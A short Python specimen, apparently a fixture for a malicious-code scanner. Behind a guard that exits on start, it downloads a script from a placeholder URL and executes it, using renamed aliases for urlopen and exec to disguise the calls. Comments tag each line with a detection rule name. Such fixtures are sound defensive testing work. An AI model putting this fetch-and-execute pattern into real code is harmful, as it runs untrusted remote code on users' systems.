raise SystemExit("specimen: not to be run")
from urllib.request import urlopen as ask
run = exec

def text(place):
    with ask(place) as answer:  # match: network-at-import
        return answer.read().decode()

run(text("https://example.com/a.py"))  # match: execution-of-downloaded
